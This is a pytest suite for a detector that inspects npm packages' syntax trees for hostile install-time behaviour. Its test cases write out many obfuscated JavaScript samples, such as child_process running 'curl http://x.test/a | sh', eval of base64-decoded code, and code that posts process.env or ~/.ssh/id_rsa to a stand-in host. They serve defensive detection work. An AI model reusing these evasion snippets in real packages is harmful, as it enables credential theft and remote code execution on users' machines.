"""What an npm package's code does, by its syntax tree, whatever its words look like."""

import base64
import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandboxes.screening.detectors import npm_code
from sandboxes.screening.findings import Found, Threat
from sandboxes.screening.package import Kind
from tests.sandboxes.screening.detectors.snippets import found_in, told


def manifest(**more: object) -> str:
    return json.dumps({"name": "thing", "version": "1.0.0", **more}, indent=1)


def installing(text: str) -> list[Found]:
    files = {"package.json": manifest(scripts={"postinstall": "node ./go.js"}), "go.js": text}
    return found_in(npm_code, files, Kind.NPM)


def required(text: str, **more: object) -> list[Found]:
    return found_in(npm_code, {"package.json": manifest(**more), "index.js": text}, Kind.NPM)


PACKED = base64.b64encode(b"one()").decode()
FETCH = "'curl http://x.test/a | sh'"


@pytest.mark.parametrize(
    "text",
    [
        f"require('child_process').exec({FETCH})",
        f"const r = require; const {{ exec: go }} = r('node:child_process'); go({FETCH})",
        f"require('child_' + 'process')['ex' + 'ec']({FETCH})",
        f"require(['child', 'process'].join('_')).execSync({FETCH})",
        f"require(`child${{'_'}}process`).execSync({FETCH})",
        f"import {{ execSync as x }} from 'child_process'; x({FETCH})",
        f"import * as c from 'node:child_process'; c.spawn({FETCH})",
        f"import {{ createRequire }} from 'module'; createRequire(import.meta.url)('child_process').exec({FETCH})",
        f"process.mainModule.require('child_process').exec({FETCH})",
        f"global['r'] = require; global['r']('child_process').exec({FETCH})",
        f"const a = ['x', 'child_process'].map((s) => s); require(a[1]).exec({FETCH})",
        (
            f"function f(x) {{ return Buffer.from(x, 'hex').toString(); }}\n"
            f"require(f('{b'child_process'.hex()}')).exec({FETCH})"
        ),
        f"(async () => {{ const c = await import('child_process'); c.exec({FETCH}) }})()",
        f"function go() {{ require('child_process').exec({FETCH}) }}\nsetTimeout(go, 10)",
    ],
)
def test_a_program_is_seen_by_whatever_name_it_is_started(text: str) -> None:
    assert ("npm.process-fetching", Threat.CRITICAL) in {
        (each.rule, each.threat) for each in installing(text)
    }
    assert ("npm.process-fetching", Threat.CRITICAL) in {(each.rule, each.threat) for each in required(text)}


@pytest.mark.parametrize(
    ("text", "rule"),
    [
        (f"eval(Buffer.from('{PACKED}', 'base64').toString())", "exec-decoded"),
        (f"globalThis['ev' + 'al'](atob('{PACKED}'))", "exec-decoded"),
        (f"(() => {{}}).constructor(atob('{PACKED}'))()", "exec-decoded"),
        (f"[].filter.constructor(atob('{PACKED}'))()", "exec-decoded"),
        (f"new Function(String.fromCharCode({', '.join(str(each) for each in b'one()')}))()", "exec-decoded"),
        ("require('https').get('https://x.test/', (a) => a.on('data', (d) => eval(d + '')))", "download-and-run"),
        ("fetch('https://x.test').then((a) => a.text()).then((t) => new Function(t)())", "download-and-run"),
        ("fetch('https://x.test/', { body: JSON.stringify({ ...process.env }) })", "environment-sent"),
        ("const { env: e } = process; fetch('https://x.test/', { body: JSON.stringify(e) })", "environment-sent"),
        (("const f = require('fs'), p = require('path'), o = require('os');\n"
         "fetch('https://x.test/' + f.readFileSync(p.join(o.homedir(), '.ssh', 'id_rsa')))"), "credentials-sent"),
        ("require('dns').lookup(require('os').hostname() + '.x.test', () => {})", "host-told"),
        (f"require('https').get(Buffer.from('{base64.b64encode(b'https://x.test/a').decode()}', 'base64') + '')",
         "network-hidden"),
    ],
)  # fmt: skip
def test_what_no_installation_does(text: str, rule: str) -> None:
    assert (f"npm.{rule}", 1 if "\n" not in text else 2, Threat.CRITICAL) in told(installing(text))


@pytest.mark.parametrize(
    "text",
    [
        # A function that nobody calls, a program that may see the environment, one variable of it.
        "exports.run = (c) => require('child_process').exec(c)",
        "exports.run = () => require('child_process').spawnSync('git', ['log'], { env: { ...process.env } })",
        "fetch('http://localhost/', { headers: { a: process.env.LANG } })",
        "const debug = process.env.DEBUG; module.exports = JSON.stringify({ debug })",
        "module.exports = Buffer.from('aGVsbG8=', 'base64').toString()",
        "let e = process.env; e = 1; exports.send = (x) => fetch(x, { body: e })",
        "const r = /x/; r.exec(Buffer.from('aGVsbG8=', 'base64').toString())",
        "exports.at = (o, k) => o[k + ''](k)",
        "for (const require of [x => x]) require('child_process').exec('curl http://x.test | sh')",
    ],
)
def test_what_good_code_does_is_let_be(text: str) -> None:
    assert [each for each in required(text) if each.threat in (Threat.HIGH, Threat.CRITICAL)] == []


def test_files_that_are_required_are_followed() -> None:
    files = {
        "package.json": manifest(main="./lib/main"),
        "lib/main.js": "module.exports = require('../src/it')",
        "src/it/index.js": f"require('child_process').exec({FETCH})",
        "other.js": f"require('child_process').exec({FETCH})",
    }
    found = found_in(npm_code, files, Kind.NPM)
    assert {(each.rule, each.path) for each in found} == {("npm.process-fetching", "src/it/index.js")}


def test_what_is_too_much_to_be_followed_is_told() -> None:
    assert told(required("x;\n" * 200_000)) == {("npm.not-followed", 0, Threat.LOW)}
    assert told(required("(" * 5_000 + "1" + ")" * 5_000)) == {("npm.not-followed", 0, Threat.LOW)}
    # A sum is no deeper for being long.
    text = " + ".join(["'child'", "'_process'", *["''"] * 3_000])
    rules = {each.rule for each in installing(f"require({text}).exec({FETCH})")}
    assert rules >= {"npm.process-fetching", "npm.hidden-name"}


def many(first: str, count: int, last: str) -> dict[str, str]:
    """A file that requires many others, of which the last does something."""
    files = {f"f{n}.js": "module.exports = 1;" for n in range(count - 1)}
    return {first: "".join(f"require('./f{n}');" for n in range(count)), **files, f"f{count - 1}.js": last}


HIDDEN = f"require('child_pro' + 'cess')['ex' + 'ec']({FETCH})"


@pytest.mark.parametrize(("count", "rule"), [(59, "npm.process-fetching"), (60, "npm.not-followed")])
def test_the_file_after_the_last_that_is_followed_is_told(count: int, rule: str) -> None:
    started = {"package.json": manifest(scripts={"install": "node go.js"}), **many("go.js", count, HIDDEN)}
    found = [each for each in found_in(npm_code, started, Kind.NPM) if each.rule == rule]
    threat = Threat.CRITICAL if count < 60 else Threat.HIGH
    assert [(each.path, each.threat, each.installs) for each in found] == [(f"f{count - 1}.js", threat, True)]
    needed = {"package.json": manifest(), **many("index.js", count, HIDDEN)}
    found = [each for each in found_in(npm_code, needed, Kind.NPM) if each.rule == rule]
    threat = Threat.CRITICAL if count < 60 else Threat.MEDIUM
    assert [(each.path, each.threat, each.installs) for each in found] == [
        (f"f{count - 1}.js", threat, False)
    ]


def test_what_is_installed_takes_nothing_from_what_is_required() -> None:
    files = {
        "package.json": manifest(scripts={"install": "node go.js"}),
        **many("go.js", 60, "1"),
        "index.js": HIDDEN,
    }
    assert ("npm.process-fetching", 1, Threat.CRITICAL) in told(found_in(npm_code, files, Kind.NPM))


def test_a_file_that_is_started_and_required_is_told_of_as_both() -> None:
    files = {"package.json": manifest(scripts={"install": "node index.js"}), "index.js": HIDDEN}
    found = [each for each in found_in(npm_code, files, Kind.NPM) if each.rule == "npm.process-fetching"]
    assert [(each.threat, each.installs) for each in found] == [
        (Threat.CRITICAL, True),
        (Threat.CRITICAL, False),
    ]


@pytest.mark.parametrize(
    ("text", "size", "threat"),
    [
        ("x;", 500_000, Threat.LOW),  # it is searched for patterns
        ("require('net');", 500_000, Threat.MEDIUM),
        ("x;", 3_100_000, Threat.MEDIUM),
        ("require('net');", 3_100_000, Threat.HIGH),
        ("require(y);", 3_100_000, Threat.HIGH),
        ("x['\\x65\\x76\\x61\\x6c']", 3_100_000, Threat.HIGH),
        ("x;", 16_100_000, Threat.HIGH),
    ],
)
def test_an_entry_that_is_too_large_counts_by_its_words(text: str, size: int, threat: Threat) -> None:
    assert told(required("/*" + " " * size + "*/" + text)) == {("npm.not-followed", 0, threat)}


@pytest.mark.parametrize(
    "said", [[], 7, {"exports": {".": [{"a": {"b": 1}}]}}, {"main": 7, "scripts": []}, None]
)
def test_a_manifest_may_say_anything(said: object) -> None:
    files = {"package.json": json.dumps(said), "index.js": f"require('child_process').exec({FETCH})"}
    assert {each.rule for each in found_in(npm_code, files, Kind.NPM)} == {"npm.process-fetching"}


PIECES = st.lists(
    st.sampled_from(
        ["require", "(", ")", "{", "}", "[", "]", "'x'", "`${", "=>", "=", "...", "import", "from", "const ", ";",
         "process", ".env", "eval", "Buffer.from", "class A ", "async ", "function f", "new ", ",", "for (", " of ",
         "\\u{110000}", "'\\x4", "\0", "\ud800", "atob", "String.fromCharCode", "0x", "1e999", "?.", "#p", "<a>"]
    ),
    max_size=60,
)  # fmt: skip


@given(PIECES)
@settings(max_examples=150, deadline=None)
def test_no_text_stops_it(pieces: list[str]) -> None:
    text = "".join(pieces).encode("utf-8", "surrogatepass")
    found_in(npm_code, {"package.json": manifest(), "index.js": text}, Kind.NPM)
